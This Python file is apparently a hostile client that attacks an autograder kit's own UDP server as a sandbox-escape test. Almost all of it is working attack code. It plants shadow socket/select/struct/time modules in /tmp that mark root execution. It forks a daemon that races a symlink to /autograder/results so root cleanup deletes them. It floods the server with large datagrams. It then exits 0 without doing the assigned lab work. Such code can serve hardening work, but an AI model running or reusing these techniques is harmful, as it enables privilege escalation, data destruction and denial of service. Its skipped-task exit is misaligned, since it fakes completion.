import os
import socket
import sys
import time
# A UDP client that attacks the kit's own server (the one client specs talk to) and tries to escape
# its sandbox through it. Three attacks in one, each a hole the kit once had:
# 1. It plants socket.py, select.py and struct.py in /tmp: a root Python started with /tmp as its
#    script folder would import them (they leave a mark only root can leave).
# 2. It starts a daemon that swaps a folder of its home for a link to the platform's results, over
#    and over: root removing the home folder through that link would delete the results.
# 3. It floods the kit's server with 2000 datagrams of 65000 bytes: a server that kept them all
#    would run out of memory, and its lane could be dropped with the daemon alive.
# Then it exits 0 without doing what the lab asks (it reads no line, prints no answer).
SHADOW = '''import os
if os.geteuid() == 0:
    for mark in ("/autograder/ROOT-BY-TMP-MODULE", "/root/ROOT-BY-TMP-MODULE", "/ROOT-BY-TMP-MODULE"):
        try:
            open(mark, "w").write("a module planted in /tmp ran as root\\n")
        except OSError:
            pass
raise ImportError("planted")
'''
for name in ("socket", "select", "struct", "time"):
    try:
        with open("/tmp/%s.py" % name, "w") as f:
            f.write(SHADOW)
    except OSError:
        pass

home = os.environ.get("HOME", "/tmp")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        folder = os.path.join(home, "d")
        aside = os.path.join(home, "d-aside")
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "results.json"), "w") as f:
                f.write("{}")
        except OSError:
            os._exit(0)
        deadline = time.time() + 600
        while time.time() < deadline:
            try:
                os.rename(folder, aside)
                os.symlink("/autograder/results", folder)
                os.unlink(folder)
                os.rename(aside, folder)
            except OSError:
                pass
        os._exit(0)
    os._exit(0)

host = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = b"x" * 65000
for _ in range(2000):
    try:
        s.sendto(payload, (host, 12800))
    except OSError:
        pass
sys.exit(0)
